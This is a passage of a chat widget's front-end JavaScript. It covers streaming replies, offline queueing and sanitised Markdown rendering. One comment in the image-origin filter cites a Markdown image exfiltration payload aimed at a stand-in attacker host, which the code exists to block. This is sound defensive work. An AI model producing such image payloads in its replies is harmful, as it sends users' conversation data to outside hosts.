/*
 * chinwag talk page.
 *
 * Talks to the public session API relative to this page (works behind a path prefix):
 *   GET    ../api/v1/public/chat-clients/{key}/session   expiresAt, limits, usage (debug)
 *   GET    .../messages                                 the whole conversation (restore, resync)
 *   POST   .../prompt  Accept: text/event-stream        SSE: reasoning {text}, content {text},
 *                                                       tool {id,name,arguments,result},
 *                                                       error {message,status},
 *                                                       done {usage, result:{status,...}}
 *   POST   .../stop                                     cancel the running reply
 *   DELETE .../messages                                 clear the conversation
 *   GET    .../messages?limit=&before=                  paging: newest page, then older ones
 *   GET    .../stream  (Last-Event-ID)                  re-attach to the reply being written
 *   POST   .../messages/{id}/feedback                   thumbs up/down (+ comment) on a reply
 *
 * Nothing typed is lost: a message is kept in localStorage (with the Idempotency-Key made when
 * it was typed) until the server acknowledges it, shown as pending while offline, and sent once
 * when the connection returns; the draft survives a reload too. A reply cut by a reload or a
 * lost connection continues from its last event id (see "resumable replies" below).
 *
 * Safety: user text is only ever set with textContent; model text goes through marked (raw
 * HTML escaped to text) and then DOMPurify before it reaches innerHTML; the page CSP only runs
 * nonce'd scripts on top of that.
 *
 * The server's copy of the conversation is the truth: after every reply and after a lost
 * connection the page re-renders from GET .../messages, so nothing is duplicated or lost.
 *
 * Loading: this script and the two libraries (marked, DOMPurify) are `async`, so parsing never
 * waits for them. This script runs once the DOM is there and renders Markdown once both
 * libraries have arrived (plain text until then).
 *
 * Embedded (?embed=1, the panel of /widget.js): see embedBridge() for the messages exchanged
 * with the host page.
 */
(function talkPage(nonce) {
  "use strict";

  const NONCE = nonce ?? (document.currentScript ? document.currentScript.nonce : "");
  if (document.readyState === "loading") {
    document.addEventListener("DOMContentLoaded", () => talkPage(NONCE), { once: true });
    return;
  }
  const cfg = JSON.parse(document.getElementById("cw-config").textContent);

  // No languageCode and no usable Accept-Language: ask the server again with the language
  // the browser reports (once; the server treats ?lang= as a hint below languageCode).
  if (cfg.languageSource === "default") {
    const wanted = { pt: "pt-BR", es: "es" }[
      String(navigator.languages?.[0] || navigator.language || "").toLowerCase().split(/[-_]/)[0]
    ];
    const url = new URL(window.location.href);
    if (wanted && !url.searchParams.has("lang")) {
      url.searchParams.set("lang", wanted);
      window.location.replace(url.toString());
      return;
    }
  }
  const S = cfg.strings;
  const locale = cfg.language;
  const numberFormat = new Intl.NumberFormat(locale);
  const timeFormat = new Intl.DateTimeFormat(locale, { hour: "numeric", minute: "2-digit" });
  const dayTimeFormat = new Intl.DateTimeFormat(locale, { dateStyle: "medium", timeStyle: "short" });
  const apiBase = new URL(
    `../api/v1/public/chat-clients/${encodeURIComponent(cfg.accessKey)}/`,
    window.location.href,
  );

  const $ = (id) => document.getElementById(id);
  const app = $("cw-app");
  const list = $("cw-messages");
  const scroller = $("cw-scroll");
  const hello = $("cw-hello");
  const input = $("cw-input");
  const sendButton = $("cw-send");
  const stopButton = $("cw-stop");
  const clearButton = $("cw-clear");
  const banner = $("cw-banner");
  const bannerText = $("cw-banner-text");
  const bannerAction = $("cw-banner-action");
  const usageBadge = $("cw-usage");
  const confirmDialog = $("cw-confirm");
  const toast = $("cw-toast");
  const announcer = $("cw-announcer");

  const state = {
    messages: [],
    turn: null, // the reply being streamed: {controller, view, stopping}
    attachment: null, // {dataUrl, name}
    blocked: false, // a limit blocks the conversation until it is cleared
    recovering: false,
    expired: false,
    pending: [], // typed messages not yet acknowledged by the server: {key, prompt, createdAt}
    flushing: false,
    paging: { hasOlder: false, loading: false },
  };

  // ------------------------------------------------------------------ helpers

  function t(key, vars) {
    let text = S[key] ?? key;
    for (const [name, value] of Object.entries(vars || {})) {
      text = text.split(`{${name}}`).join(String(value));
    }
    return text;
  }

  function el(tag, className, text) {
    const node = document.createElement(tag);
    if (className) node.className = className;
    if (text !== undefined && text !== null) node.textContent = text;
    return node;
  }

  function api(path, options = {}) {
    return fetch(new URL(path, apiBase), {
      credentials: "omit",
      cache: "no-store",
      ...options,
      headers: { Accept: "application/json", ...(options.headers || {}) },
    });
  }

  async function envelope(response) {
    try {
      return await response.json();
    } catch {
      return { message: null, data: null };
    }
  }

  /* A refused request, with the id (X-Request-Id) a person can quote when reporting it. */
  class HttpError extends Error {
    constructor(response, body) {
      super(body.message || `HTTP ${response.status}`);
      this.status = response.status;
      this.retryAfter = response.headers.get("Retry-After");
      this.requestId = response.headers.get("X-Request-Id");
    }
  }

  async function apiJson(path, options) {
    const response = await api(path, options);
    const body = await envelope(response);
    if (!response.ok) throw new HttpError(response, body);
    return body.data;
  }

  /* `text` followed by the request id (when there is one), for error banners. */
  function withRequestId(text, id) {
    return id && !text.includes(id) ? `${text} ${t("requestId", { id })}` : text;
  }

  const nearBottom = () =>
    scroller.scrollHeight - scroller.scrollTop - scroller.clientHeight < 120;

  function scrollToBottom(force) {
    if (force || nearBottom()) scroller.scrollTop = scroller.scrollHeight;
  }

  function showToast(text) {
    toast.textContent = text;
    toast.hidden = false;
    clearTimeout(showToast.timer);
    showToast.timer = setTimeout(() => {
      toast.hidden = true;
    }, 2600);
  }

  function showBanner(text, { tone = "warn", action = null, kind = "" } = {}) {
    bannerText.textContent = text;
    banner.dataset.tone = tone;
    banner.dataset.kind = kind;
    banner.hidden = false;
    if (action) {
      bannerAction.textContent = action.label;
      bannerAction.onclick = action.run;
      bannerAction.hidden = false;
    } else {
      bannerAction.hidden = true;
      bannerAction.onclick = null;
    }
  }

  function hideBanner(kind) {
    if (!kind || banner.dataset.kind === kind) banner.hidden = true;
  }

  function formatBytes(bytes) {
    const mb = bytes / (1024 * 1024);
    return `${new Intl.NumberFormat(locale, { maximumFractionDigits: 1 }).format(mb)} MB`;
  }

  // ------------------------------------------------------------------ theme

  /* WCAG contrast helpers: the operator's primaryColor is used as given only where it is
   * readable; elsewhere a shade of it that reaches 4.5:1 is derived (links in dark mode, the
   * user's bubble behind its text). */
  function rgbOf(cssColor) {
    const probe = el("span");
    probe.style.color = cssColor;
    document.body.appendChild(probe);
    const match = getComputedStyle(probe).color.match(/[\d.]+/g);
    probe.remove();
    return match ? match.slice(0, 3).map(Number) : null;
  }

  function luminance(rgb) {
    const [r, g, b] = rgb.map((v) => {
      const c = v / 255;
      return c <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4;
    });
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  }

  function contrast(a, b) {
    const [hi, lo] = [luminance(a), luminance(b)].sort((x, y) => y - x);
    return (hi + 0.05) / (lo + 0.05);
  }

  /* `rgb` mixed toward black or white (whichever `against` is not) until it reaches `ratio`. */
  function readableShade(rgb, against, ratio) {
    const toward = luminance(against) > 0.18 ? [0, 0, 0] : [255, 255, 255];
    for (let step = 0; step <= 20; step += 1) {
      const mixed = rgb.map((v, i) => Math.round(v + ((toward[i] - v) * step) / 20));
      if (contrast(mixed, against) >= ratio) return mixed;
    }
    return toward;
  }

  const cssRgb = (rgb) => `rgb(${rgb.join(", ")})`;

  function applyPrimaryContrast() {
    const root = document.documentElement;
    const primary = rgbOf(getComputedStyle(root).getPropertyValue("--cw-primary").trim());
    const background = rgbOf(getComputedStyle(document.body).backgroundColor);
    if (!primary || !background) return;
    const white = [255, 255, 255];
    const dark = [17, 19, 24];
    // The user's bubble: the primary colour with whichever text colour reads better; when
    // neither reaches 4.5:1, a darker primary with white text.
    let bubble = primary;
    let onBubble = contrast(primary, white) >= contrast(primary, dark) ? white : dark;
    if (contrast(bubble, onBubble) < 4.5) {
      bubble = readableShade(primary, white, 4.5);
      onBubble = white;
    }
    root.style.setProperty("--cw-on-primary", cssRgb(onBubble));
    root.style.setProperty("--cw-primary-bg", cssRgb(bubble));
    // Links and other primary-coloured text, against the page background (light or dark).
    root.style.setProperty("--cw-link", cssRgb(readableShade(primary, background, 4.5)));
  }

  // ------------------------------------------------------------------ markdown

  let markdown = null; // a marked instance once both libraries are loaded

  /* Resolves when the `async` library script `id` has run (or failed: text stays plain). */
  function library(globalName, id) {
    if (window[globalName]) return Promise.resolve();
    return new Promise((resolve) => {
      const script = $(id);
      if (!script) return resolve();
      script.addEventListener("load", resolve, { once: true });
      script.addEventListener("error", resolve, { once: true });
    });
  }

  const escapeHtml = (text) =>
    String(text).replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);

  const librariesReady = Promise.all([
    library("DOMPurify", "cw-lib-purify"),
    library("marked", "cw-lib-marked"),
  ]).then(() => {
    if (!window.marked || !window.DOMPurify) return;
    window.DOMPurify.addHook("afterSanitizeAttributes", (node) => {
      if (node.tagName === "A") {
        node.setAttribute("target", "_blank");
        node.setAttribute("rel", "noopener noreferrer nofollow");
      }
    });
    window.DOMPurify.addHook("afterSanitizeAttributes", keepImagesLocal);
    // GitHub-flavoured Markdown (tables, fenced code, autolinks), single newlines kept; raw
    // HTML is shown as text, as a model's or user's HTML must never become markup.
    markdown = new window.marked.Marked({
      gfm: true,
      breaks: true,
      renderer: { html: (token) => escapeHtml(token.text) },
    });
  });

  /* Images in model answers load only from this page's origin, data:/blob: URLs, the logo's
   * origin and the client's imageOrigins (the same list as the page's CSP img-src). Any other
   * image becomes a link: an answer like ![x](http://evil/?c=...) must not make the browser
   * call that host. Runs on DOMPurify's inert copy, before anything reaches the page. */
  const IMAGE_ORIGINS = new Set([window.location.origin, ...(cfg.imageOrigins || [])]);
  function imageAllowed(src) {
    try {
      const url = new URL(src, window.location.href);
      return url.protocol === "data:" || url.protocol === "blob:" || IMAGE_ORIGINS.has(url.origin);
    } catch {
      return false;
    }
  }
  function imageAsLink(img) {
    const src = img.getAttribute("src") || "";
    const link = img.ownerDocument.createElement("a");
    if (/^https?:/i.test(src)) {
      link.setAttribute("href", src);
      link.setAttribute("target", "_blank");
      link.setAttribute("rel", "noopener noreferrer nofollow");
    }
    link.textContent = img.getAttribute("alt") || src;
    img.replaceWith(link);
  }
  /* A DOMPurify afterSanitizeAttributes hook (registered once DOMPurify has loaded). */
  function keepImagesLocal(node) {
    if (node.tagName === "IMG" || node.tagName === "SOURCE") node.removeAttribute("srcset");
    if (node.tagName === "IMG" && !imageAllowed(node.getAttribute("src") || "")) {
      imageAsLink(node);
    }
  }
  const PURIFY = {
    USE_PROFILES: { html: true },
    FORBID_TAGS: ["style", "form", "input", "button", "textarea", "select", "iframe"],
    FORBID_ATTR: ["style", "class", "id"],
  };

  /* The Clipboard API exists only on https and localhost; plain-http installs fall back. */
  async function copyText(text) {
    if (navigator.clipboard && window.isSecureContext) {
      await navigator.clipboard.writeText(text);
      return;
    }
    const area = el("textarea");
    area.value = text;
    area.setAttribute("readonly", "");
    area.style.position = "fixed";
    area.style.opacity = "0";
    document.body.appendChild(area);
    area.select();
    document.execCommand("copy");
    area.remove();
  }

  function renderMarkdown(target, text) {
    if (!markdown) {
      target.textContent = text || ""; // the libraries are still on their way
      return;
    }
    target.innerHTML = window.DOMPurify.sanitize(markdown.parse(text || ""), PURIFY);
    // A wide table scrolls sideways: keyboard users must be able to reach it to scroll it.
    for (const table of target.querySelectorAll("table")) table.tabIndex = 0;
    for (const pre of target.querySelectorAll("pre")) {
      const copy = el("button", "cw-copy", S.copy);
      copy.type = "button";
      copy.addEventListener("click", () => {
        const code = (pre.querySelector("code") || pre).textContent;
        copyText(code).then(() => {
          copy.textContent = S.copied;
          setTimeout(() => (copy.textContent = S.copy), 1500);
        });
      });
      pre.appendChild(copy);
    }
  }

  /* A reply cut short (stopped, or still streaming) can end mid-Markdown: "*settin", "**bold",
   * "`code", an open ``` fence. Close what is open so no stray marker shows; a marker with
   * nothing after it is dropped. Only the last block can be open. */
  function closeMarkdown(text) {
    if (!text) return text || "";
    const lines = text.split("\n");
    let fence = null;
    let blockStart = 0;
    lines.forEach((line, index) => {
      const mark = /^ {0,3}(`{3,}|~{3,})/.exec(line);
      if (fence) {
        if (mark && mark[1][0] === fence[0] && mark[1].length >= fence.length && !line.trim().slice(mark[1].length)) {
          fence = null;
          blockStart = index + 1;
        }
      } else if (mark) {
        fence = mark[1];
      } else if (!line.trim()) {
        blockStart = index + 1;
      }
    });
    if (fence) return `${text}\n${fence}`;
    const head = lines.slice(0, blockStart).join("\n");
    let tail = lines.slice(blockStart).join("\n");
    const open = []; // {marker, index}
    for (let i = 0; i < tail.length; ) {
      const c = tail[i];
      if (c === "\\") {
        i += 2;
        continue;
      }
      let n = 1;
      while (tail[i + n] === c) n += 1;
      if (c === "`") {
        const run = c.repeat(n);
        const close = tail.indexOf(run, i + n);
        if (close < 0) {
          open.push({ marker: run, index: i });
          break; // the rest is code
        }
        i = close + n;
      } else if (c === "*" || c === "_" || (c === "~" && n === 2)) {
        const marker = c.repeat(Math.min(n, 3));
        const before = i > 0 ? tail[i - 1] : " ";
        const after = i + n < tail.length ? tail[i + n] : " ";
        const top = open[open.length - 1];
        if (top && top.marker === marker && !/\s/.test(before)) open.pop();
        else if (!/\s/.test(after) && !(c === "_" && /\w/.test(before))) open.push({ marker, index: i });
        i += n;
      } else {
        i += n;
      }
    }
    tail = tail.trimEnd();
    while (open.length) {
      const { marker, index } = open.pop();
      if (!tail.slice(index + marker.length).trim()) tail = tail.slice(0, index).trimEnd();
      else tail += marker;
    }
    return blockStart ? `${head}\n${tail}` : tail;
  }

  // ------------------------------------------------------------------ messages

  /* A visually hidden "You" / "Assistant" before each message, for screen readers. */
  function speakerLabel(role) {
    return el("span", "cw-sr-only", `${role === "user" ? S.you : S.assistant}:`);
  }

  /* Copies a whole assistant message (its Markdown source), not only its code blocks. */
  function copyMessageButton(view) {
    const button = el("button", "cw-copy-message");
    button.type = "button";
    button.title = S.copyMessage;
    button.setAttribute("aria-label", S.copyMessage);
    button.innerHTML =
      '<svg viewBox="0 0 24 24" width="16" height="16" fill="none" stroke="currentColor" stroke-width="2" stroke-linecap="round" stroke-linejoin="round" aria-hidden="true"><rect x="9" y="9" width="12" height="12" rx="2"/><path d="M5 15H4a2 2 0 0 1-2-2V4a2 2 0 0 1 2-2h9a2 2 0 0 1 2 2v1"/></svg>';
    button.addEventListener("click", () => {
      copyText(view.content || "").then(() => showToast(S.copiedMessage));
    });
    return button;
  }

  function contentParts(content) {
    if (typeof content === "string") return { text: content, images: [] };
    const parts = Array.isArray(content) ? content : [];
    const text = parts
      .filter((p) => p && p.type === "text")
      .map((p) => p.text || "")
      .join("\n");
    const images = parts
      .filter((p) => p && p.type === "image_url")
      .map((p) => (typeof p.image_url === "string" ? p.image_url : p.image_url?.url))
      .filter((url) => typeof url === "string" && /^(data:image\/|https?:)/i.test(url));
    return { text, images };
  }

  function metaLine(message, view) {
    const meta = el("div", "cw-meta");
    if (message.createdAt) {
      const when = new Date(message.createdAt * 1000);
      const time = el("time", "cw-time", timeFormat.format(when));
      time.dateTime = when.toISOString();
      time.title = dayTimeFormat.format(when);
      meta.appendChild(time);
    }
    if (message.status === "stopped") meta.appendChild(el("span", "cw-badge cw-stopped", S.stopped));
    if (cfg.debug && message.usage && message.usage.totalTokens) {
      const usage = el("span", "cw-msg-usage", t("usage", { total: numberFormat.format(message.usage.totalTokens) }));
      usage.title = t("usageDetail", {
        input: numberFormat.format(message.usage.inputTokens || 0),
        output: numberFormat.format(message.usage.outputTokens || 0),
      });
      meta.appendChild(usage);
    }
    if (view) view.meta = meta;
    return meta;
  }

  function userMessageElement(message) {
    const item = el("li", "cw-msg cw-msg--user");
    item.dataset.role = "user";
    if (message.id) item.dataset.id = message.id;
    const body = el("div", "cw-msg-body");
    body.appendChild(speakerLabel("user"));
    const { text, images } = contentParts(message.content);
    if (images.length) {
      const gallery = el("div", "cw-user-images");
      for (const url of images) {
        const img = el("img");
        img.alt = S.attachment;
        img.src = url;
        gallery.appendChild(img);
      }
      body.appendChild(gallery);
    }
    body.appendChild(el("div", "cw-bubble", text)); // plain text, never HTML
    body.appendChild(metaLine(message));
    item.appendChild(body);
    return item;
  }

  function avatar() {
    const box = el("div", "cw-avatar");
    box.setAttribute("aria-hidden", "true");
    if (cfg.logoImageUrl) {
      const img = el("img");
      img.alt = "";
      img.src = cfg.logoImageUrl;
      box.appendChild(img);
    } else {
      box.innerHTML =
        '<svg viewBox="0 0 24 24" width="16" height="16" fill="none" stroke="currentColor" stroke-width="2" stroke-linecap="round" stroke-linejoin="round"><path d="M12 3l1.9 5.8L20 10l-6.1 1.2L12 17l-1.9-5.8L4 10l6.1-1.2z"/></svg>';
    }
    return box;
  }

  /* An assistant message view that can be filled incrementally while a reply streams. */
  function assistantView(message) {
    const item = el("li", "cw-msg cw-msg--assistant");
    item.dataset.role = "assistant";
    if (message.id) item.dataset.id = message.id;
    const body = el("div", "cw-msg-body");
    body.appendChild(speakerLabel("assistant"));
    const view = { item, body, reasoning: "", content: "", tools: new Map(), frame: 0 };

    view.reasoningBox = el("details", "cw-reasoning");
    view.reasoningBox.hidden = true;
    view.reasoningBox.appendChild(el("summary", null, S.reasoning));
    view.reasoningText = el("div", "cw-reasoning-text");
    view.reasoningText.tabIndex = 0; // it scrolls when long
    view.reasoningBox.appendChild(view.reasoningText);
    body.appendChild(view.reasoningBox);

    view.toolsBox = el("div", "cw-tools");
    view.toolsBox.hidden = true;
    body.appendChild(view.toolsBox);

    view.bubble = el("div", "cw-bubble cw-md");
    body.appendChild(view.bubble);
    item.appendChild(avatar());
    item.appendChild(body);

    if (message.reasoning) setReasoning(view, message.reasoning, false);
    for (const call of message.toolCalls || []) upsertTool(view, call);
    view.content = contentParts(message.content).text;
    view.stopped = message.status === "stopped";
    renderMarkdown(view.bubble, view.stopped ? closeMarkdown(view.content) : view.content);
    // A stored failure names the request that failed, so it can be quoted after a reload too.
    if (message.status === "error") {
      showMessageError(view, message.error, withRequestId(S.modelFailed, message.requestId));
    }
    body.appendChild(metaLine(message, view));
    // Feedback is for answers: an error marker (the model failed) gets none.
    if (message.id && message.status !== "error") body.appendChild(feedbackBar(message));
    if (view.content) view.meta.appendChild(copyMessageButton(view));
    return view;
  }

  function setReasoning(view, text, live) {
    view.reasoning = text;
    view.reasoningBox.hidden = !text;
    view.reasoningText.textContent = text; // reasoning is shown as plain text
    view.reasoningBox.classList.toggle("is-live", live);
    if (live) view.reasoningBox.open = true;
  }

  function upsertTool(view, call) {
    if (!cfg.showToolCalls || !call || !call.name) return;
    const key = call.id || call.name;
    let entry = view.tools.get(key);
    if (!entry) {
      entry = { box: el("details", "cw-tool") };
      entry.summary = el("summary");
      entry.box.appendChild(entry.summary);
      entry.args = el("pre", "cw-tool-args");
      entry.result = el("pre", "cw-tool-result");
      entry.args.tabIndex = 0; // both scroll when long
      entry.result.tabIndex = 0;
      entry.box.appendChild(el("h4", null, S.toolArguments));
      entry.box.appendChild(entry.args);
      entry.resultTitle = el("h4", null, S.toolResult);
      entry.box.appendChild(entry.resultTitle);
      entry.box.appendChild(entry.result);
      view.toolsBox.appendChild(entry.box);
      view.tools.set(key, entry);
    }
    const done = call.result !== null && call.result !== undefined;
    entry.summary.textContent = "";
    entry.summary.appendChild(el("span", "cw-tool-mark", done ? "✓" : "⋯"));
    entry.summary.appendChild(
      el("span", null, t(done ? "toolDone" : "toolRunning", { name: call.name })),
    );
    entry.args.textContent = call.arguments || "";
    entry.result.textContent = done ? String(call.result) : "";
    entry.result.hidden = !done;
    entry.resultTitle.hidden = !done;
    view.toolsBox.hidden = false;
  }

  function showMessageError(view, detail, text) {
    let box = view.body.querySelector(".cw-msg-error");
    if (!box) {
      box = el("div", "cw-msg-error");
      box.setAttribute("role", "alert");
      view.body.insertBefore(box, view.meta || null);
    }
    box.textContent = text || S.modelFailed;
    if (cfg.debug && detail) box.title = detail;
  }

  function messageElement(message) {
    return message.role === "user" ? userMessageElement(message) : assistantView(message).item;
  }

  function renderConversation(messages) {
    state.messages = messages;
    list.textContent = "";
    for (const message of messages) list.appendChild(messageElement(message));
    renderPending(messages);
    if (state.turn) list.appendChild(state.turn.view.item); // a reply still being written
    updateEmptyState();
  }

  function updateEmptyState() {
    hello.hidden = list.children.length > 0;
    clearButton.disabled = list.children.length === 0 || !!state.turn;
  }

  // ------------------------------------------------------------------ announcements

  /* Screen readers hear each finished reply once, with its speaker, from one polite live
   * region (the message list itself is not live: streaming would read every re-render). */
  function announce(text) {
    announcer.textContent = "";
    // A new text node in a separate task, so the same words twice are still announced.
    setTimeout(() => {
      announcer.textContent = text;
    }, 50);
  }

  /* The reply of the turn that just ended: announce it and tell an embedding widget. */
  function replyFinished() {
    const last = state.messages[state.messages.length - 1];
    if (!last || last.role !== "assistant" || (last.id && last.id === state.announcedId)) return;
    state.announcedId = last.id;
    const item = last.id ? list.querySelector(`[data-id="${CSS.escape(last.id)}"] .cw-bubble`) : null;
    const text = (item ? item.innerText : contentParts(last.content).text).trim();
    const stopped = last.status === "stopped" ? ` (${S.stopped})` : "";
    announce(`${S.assistant}${stopped}: ${text}`);
    notifyParent("reply", { id: last.id, role: "assistant", status: last.status, text });
  }

  // ------------------------------------------------------------------ session and usage

  /* The badge counts this conversation (since the last Clear); the session total is in
   * management views. */
  function showUsage(usage) {
    if (!cfg.debug || !usage) return;
    usageBadge.hidden = false;
    usageBadge.textContent = t("usage", { total: numberFormat.format(usage.totalTokens || 0) });
    usageBadge.title = `${S.usageTitle}: ${t("usageDetail", {
      input: numberFormat.format(usage.inputTokens || 0),
      output: numberFormat.format(usage.outputTokens || 0),
    })}`;
  }

  function applyLimits(limits) {
    if (limits && limits.blocked && limits.blockedBy === "messagesPerHour") {
      // Waiting helps here, clearing does not: say so without blocking the composer.
      setBlocked(false);
      showBanner(S.rateLimitedShort, { tone: "warn", kind: "request" });
      return;
    }
    setBlocked(!!(limits && limits.blocked));
  }

  function setBlocked(blocked) {
    state.blocked = blocked;
    if (blocked) {
      showBanner(S.limitReached, {
        tone: "error",
        kind: "limit",
        action: { label: S.clear, run: askClear },
      });
    } else {
      hideBanner("limit");
    }
    updateComposer();
  }

  async function refreshSession() {
    const session = await apiJson("session");
    if (session) {
      showUsage(session.conversationUsage || session.usage);
      applyLimits(session.limits);
      if (cfg.debug && session.expiresAt) {
        usageBadge.dataset.expiresAt = t("expiresAt", {
          date: dayTimeFormat.format(new Date(session.expiresAt * 1000)),
        });
        usageBadge.title += `\n${usageBadge.dataset.expiresAt}`;
      }
    }
    return session;
  }

  async function loadConversation() {
    // The newest page, as many messages as are shown now (older pages stay loaded).
    const limit = Math.min(MAX_PAGE, Math.max(PAGE_SIZE, state.messages.length));
    const [messages] = await Promise.all([fetchMessages({ limit }), librariesReady]);
    state.paging.hasOlder = messages.length === limit && Number.isInteger(messages[0]?.seq);
    renderConversation(messages);
    return messages;
  }

  function showExpired(expiresAt) {
    if (state.expired) return;
    state.expired = true;
    if (state.turn) state.turn.controller.abort();
    // The conversation is over: the notice replaces the whole page (one <main>, nothing behind).
    const screen = el("main", "cw-notice");
    screen.id = "cw-notice";
    screen.dataset.kind = "expired";
    const card = el("div", "cw-notice-card");
    const icon = el("div", "cw-notice-icon");
    icon.innerHTML =
      '<svg viewBox="0 0 24 24" width="28" height="28" fill="none" stroke="currentColor" stroke-width="1.8" stroke-linecap="round" stroke-linejoin="round"><circle cx="12" cy="12" r="9"/><path d="M12 7v5l3 2"/></svg>';
    card.appendChild(icon);
    card.appendChild(el("h1", "cw-notice-title", S.expiredTitle));
    card.appendChild(el("p", "cw-notice-text", S.expiredText));
    if (expiresAt) {
      card.appendChild(
        el("p", "cw-notice-when", t("expiredAt", {
          date: new Intl.DateTimeFormat(locale, { dateStyle: "long", timeStyle: "short" })
            .format(new Date(expiresAt * 1000)),
        })),
      );
    }
    screen.appendChild(card);
    app.replaceChildren(screen);
    app.dataset.state = "expired";
  }

  // ------------------------------------------------------------------ errors

  function describeError(error) {
    switch (error.status) {
      case 400:
        return S.invalidMessage;
      case 403:
        return S.limitReached;
      case 413:
        return S.tooLarge;
      case 429: {
        const seconds = Math.ceil(Number(error.retryAfter));
        return Number.isFinite(seconds) && seconds > 0
          ? t("rateLimited", { seconds: numberFormat.format(seconds) })
          : S.rateLimitedShort;
      }
      case 502:
        return S.modelFailed;
      case 504:
        return S.modelTimeout;
      default:
        return S.genericError;
    }
  }

  /* A request failed with an HTTP status: show it where the user will see it. */
  function handleHttpError(error, storedEntry = null) {
    if (error.status === 401) {
      showExpired(cfg.expiresAt);
      return;
    }
    if (error.status === 403) {
      // Either the conversation is blocked (clearing helps) or this one message is too long.
      refreshSession()
        .then((session) => {
          if (!session?.limits?.blocked) {
            showBanner(S.messageTooLong, { tone: "warn", kind: "request" });
          }
        })
        .catch(() => setBlocked(true));
      return;
    }
    const text = describeError(error);
    const retryable = error.status === 502 || error.status === 504 || error.status === 503;
    const shown = cfg.debug && error.message ? `${text} (${error.message})` : text;
    showBanner(withRequestId(shown, error.requestId), {
      tone: error.status >= 500 ? "error" : "warn",
      kind: "request",
      action: retryable ? { label: S.retry, run: () => retry(storedEntry) } : null,
    });
  }

  // ------------------------------------------------------------------ connection recovery

  function connectionLost() {
    showBanner(S.connectionLost, { tone: "warn", kind: "connection" });
    recover();
  }

  /* Re-fetch the conversation until the server answers, then keep polling briefly while the
   * reply we were watching is still being written (the last stored message is the user's). */
  async function recover() {
    if (state.recovering || state.expired || state.turn) return;
    state.recovering = true;
    let delay = 1000;
    let settled = 0;
    try {
      for (;;) {
        if (state.turn) break; // a pending message or a resumed reply took over
        try {
          const messages = await loadConversation();
          hideBanner("connection");
          const last = messages[messages.length - 1];
          if (!last || last.role !== "user" || settled >= 20) break;
          settled += 1;
          delay = 1500;
        } catch (error) {
          if (error instanceof HttpError) {
            if (error.status === 401) showExpired(cfg.expiresAt);
            else handleHttpError(error);
            break;
          }
          showBanner(S.connectionLost, { tone: "warn", kind: "connection" });
          delay = Math.min(delay * 1.6, 10000);
        }
        await new Promise((resolve) => setTimeout(resolve, delay));
      }
      refreshSession().catch(() => {});
    } finally {
      state.recovering = false;
      if (!state.turn) app.dataset.turn = "idle";
      if (state.pending.length && !state.turn && navigator.onLine) flushPending();
    }
  }

  window.addEventListener("offline", () => showBanner(S.connectionLost, { kind: "connection" }));
  window.addEventListener("online", () => {
    if (state.pending.length && !state.turn) {
      hideBanner("connection");
      flushPending();
      return;
    }
    if (banner.hidden || banner.dataset.kind !== "connection") return;
    // A reply still streaming survived the outage; a broken one reports itself and recovers.
    if (state.turn) hideBanner("connection");
    else recover();
  });

  // ------------------------------------------------------------------ streaming a reply

  /* Parse an SSE body from fetch(): yields {event, data} with data parsed as JSON. */
  async function* readEvents(body) {
    const reader = body.getReader();
    const decoder = new TextDecoder();
    let buffer = "";
    for (;;) {
      const { value, done } = await reader.read();
      if (done) break;
      buffer += decoder.decode(value, { stream: true }).replace(/\r\n?/g, "\n");
      let cut;
      while ((cut = buffer.indexOf("\n\n")) >= 0) {
        const block = buffer.slice(0, cut);
        buffer = buffer.slice(cut + 2);
        let event = "message";
        let id = null;
        const data = [];
        for (const line of block.split("\n")) {
          if (!line || line.startsWith(":")) continue;
          const colon = line.indexOf(":");
          const field = colon < 0 ? line : line.slice(0, colon);
          let value = colon < 0 ? "" : line.slice(colon + 1);
          if (value.startsWith(" ")) value = value.slice(1);
          if (field === "event") event = value;
          else if (field === "data") data.push(value);
          else if (field === "id") id = value;
        }
        if (!data.length) continue;
        let parsed;
        try {
          parsed = JSON.parse(data.join("\n"));
        } catch {
          parsed = { text: data.join("\n") };
        }
        yield { event, data: parsed, id };
      }
    }
  }

  function scheduleRender(view) {
    if (view.frame) return;
    view.frame = requestAnimationFrame(() => {
      view.frame = 0;
      const stick = nearBottom();
      if (view.content) {
        view.typing?.remove();
        view.typing = null;
        renderMarkdown(view.bubble, closeMarkdown(view.content));
      }
      if (stick) scrollToBottom(true);
    });
  }

  function typingIndicator() {
    const box = el("div", "cw-typing");
    box.appendChild(el("span", "cw-sr-only", S.thinking));
    const dots = el("span", "cw-typing-dots");
    dots.setAttribute("aria-hidden", "true");
    dots.append(el("span"), el("span"), el("span"));
    box.appendChild(dots);
    return box;
  }

  function buildPrompt(text, attachment) {
    if (!attachment) return text;
    const content = [];
    if (text) content.push({ type: "text", text });
    content.push({ type: "image_url", image_url: { url: attachment.dataUrl } });
    return { role: "user", content };
  }

  /* Apply one streamed reply to its view; true when the server said `done`. */
  async function readReply(body, view) {
    let finished = false;
    for await (const { event, data, id } of readEvents(body)) {
      if (id) noteEventId(view, id);
      if (event === "content") {
        view.content += data.text ?? "";
        if (view.reasoningBox.classList.contains("is-live")) {
          view.reasoningBox.classList.remove("is-live");
          view.reasoningBox.open = false;
        }
        scheduleRender(view);
      } else if (event === "reasoning") {
        setReasoning(view, view.reasoning + (data.text ?? ""), true);
        scrollToBottom();
      } else if (event === "tool") {
        upsertTool(view, data);
        scrollToBottom();
      } else if (event === "error") {
        view.failed = true;
        const status = Number(data.status) || 502;
        const text = withRequestId(status === 504 ? S.modelTimeout : S.modelFailed, data.requestId);
        showMessageError(view, data.message, text);
        // Also outside the bubble: the resync after the turn may re-render the conversation.
        showBanner(cfg.debug && data.message ? `${text} (${data.message})` : text, {
          tone: "error",
          kind: "request",
        });
      } else if (event === "done") {
        finished = true;
        if (data.usage) view.usage = data.usage;
      } else if (event === "gap") {
        view.gap = true; // the start of the reply is gone from the log: the resync shows it
      }
    }
    return finished;
  }

  /* "Try again" after a failure: a stored message is sent again with its own key. */
  function retry(storedEntry) {
    if (!storedEntry) {
      send(input.value);
      return;
    }
    hideBanner("request");
    state.pending = [...state.pending, storedEntry];
    writeStore("pending", state.pending);
    list.appendChild(pendingElement(storedEntry));
    scrollToBottom(true);
    flushPending();
  }

  /* A typed message: kept as pending (with its Idempotency-Key) until the server has it. */
  function send(text) {
    text = (text ?? "").trim();
    const attachment = state.attachment;
    if ((!text && !attachment) || state.blocked || state.expired) return;
    if (state.pending.length >= MAX_PENDING) {
